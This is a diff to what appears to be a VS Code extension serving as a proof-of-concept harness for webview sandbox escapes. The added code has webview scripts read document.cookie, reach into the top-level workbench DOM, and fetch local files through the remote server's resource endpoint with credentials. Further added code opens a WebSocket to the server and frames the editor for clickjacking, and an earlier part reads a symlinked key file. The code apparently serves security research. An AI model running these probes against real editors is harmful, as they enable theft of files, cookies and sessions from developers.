@@ -1,4 +1,5 @@
-// A webview shows local files below its roots, and its scripts have the browser's network.
+// A webview shows local files below its roots; its scripts have the browser's network, and what else the browser
+// lets them reach: the workbench around them, its server.
 "use strict";
 const { attack } = require("./attack");
 
@@ -9,7 +10,8 @@ const page = (vscode, options, body) =>
       resolve(message);
       panel.dispose();
     });
-    panel.webview.html = `<!doctype html><html><body><script>const api = acquireVsCodeApi();(async () => {${body(panel.webview)}})().then((value) => api.postMessage(String(value)), (error) => api.postMessage("error: " + error));</script></body></html>`;
+    // EDITOR and SERVER: where the workbench is, and its server's path.
+    panel.webview.html = `<!doctype html><html><body><script>const api = acquireVsCodeApi();const EDITOR = location.ancestorOrigins[location.ancestorOrigins.length - 1];const SERVER = location.pathname.split("/static/")[0];(async () => {${body(panel.webview)}})().then((value) => api.postMessage(String(value)), (error) => api.postMessage("error: " + error));</script></body></html>`;
   });
 
 exports.activate = (context) =>
@@ -23,5 +25,21 @@ exports.activate = (context) =>
       require("node:fs").symlinkSync(key, link);
       return page(vscode, {}, (webview) =>
         `const answer = await fetch(${JSON.stringify(String(webview.asWebviewUri(vscode.Uri.file(link))))}); return answer.status + await answer.text();`);
+    },
+    token: (_, vscode) => page(vscode, {}, () => "return document.cookie;"),
+    top: (_, vscode) => page(vscode, {}, () => "return window.top.document.querySelector('.monaco-workbench').className;"),
+    ...Object.fromEntries(["EDITOR", "location.origin"].map((origin) => [origin === "EDITOR" ? "resource" : "ownResource", ({ key }, vscode) =>
+      page(vscode, {}, () => `const answer = await fetch(${origin} + SERVER + "/vscode-remote-resource?path=" + encodeURIComponent(${JSON.stringify(key)}), { credentials: "include" }); return answer.status + await answer.text();`)])),
+    socket: (_, vscode) => page(vscode, {}, () => `return new Promise((resolve) => {
+      const socket = new WebSocket(EDITOR.replace("http", "ws") + SERVER + "?reconnectionToken=1&reconnection=false&skipWebSocketFrames=false");
+      socket.onopen = () => resolve("open");
+      socket.onerror = () => resolve("refused");
+    });`),
+    // What lies over it has a person click in it.
+    frame: (_, vscode) => {
+      const panel = vscode.window.createWebviewPanel("proof", "Proof", { viewColumn: vscode.ViewColumn.Active, preserveFocus: true }, { enableScripts: true });
+      panel.webview.html = `<!doctype html><html><body><iframe name="framed" style="width:100%;height:100%"></iframe><script>
+        const EDITOR = location.ancestorOrigins[location.ancestorOrigins.length - 1];
+        document.querySelector("iframe").src = EDITOR + location.pathname.split("/").slice(0, location.pathname.split("/")[1].startsWith("code-") ? 2 : 1).join("/") + "/";</script></body></html>`;
     },
   });
